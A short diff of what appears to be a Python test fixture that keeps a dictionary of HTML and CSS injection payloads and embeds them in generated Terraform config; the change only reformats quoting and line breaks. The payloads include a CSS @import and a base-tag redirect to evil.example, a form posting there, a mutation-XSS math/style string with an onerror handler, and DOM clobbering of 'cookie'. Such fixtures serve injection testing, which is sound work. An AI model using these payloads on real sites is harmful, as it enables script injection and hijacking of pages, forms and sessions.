@@ -26,7 +26,7 @@ PAYLOADS: Final = {
     "style": "red;background:url(https://evil.example/x)}*{display:none}\\3c /style\\3e @import 'https://evil.example'",
     "base": "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example/>",
     "form": "<form action=https://evil.example/><input name=attributes><button autofocus>x</button></form>",
-    "selector": "\"],*{},[data-domain=\"x\\",
+    "selector": '"],*{},[data-domain="x\\',
     "math": f"<math><mtext></form><mglyph><style></math><img src onerror={RUN}>",
     "dom": "<a id=cookie name=body href=data:text/html,x>x</a>",
 }
@@ -92,7 +92,9 @@ def _names() -> list[str]:
 
 def _terraform() -> str:
     keys = ",\n    ".join(_quoted(name) for name in _names())
-    hosts = ", ".join(_quoted(f"https://{host}/{PAYLOADS['image']}") for host in ("mainnet.infura.io", "api.<b>.example"))
+    hosts = ", ".join(
+        _quoted(f"https://{host}/{PAYLOADS['image']}") for host in ("mainnet.infura.io", "api.<b>.example")
+    )
     image = PAYLOADS["image"]
     return f"""
 locals {{
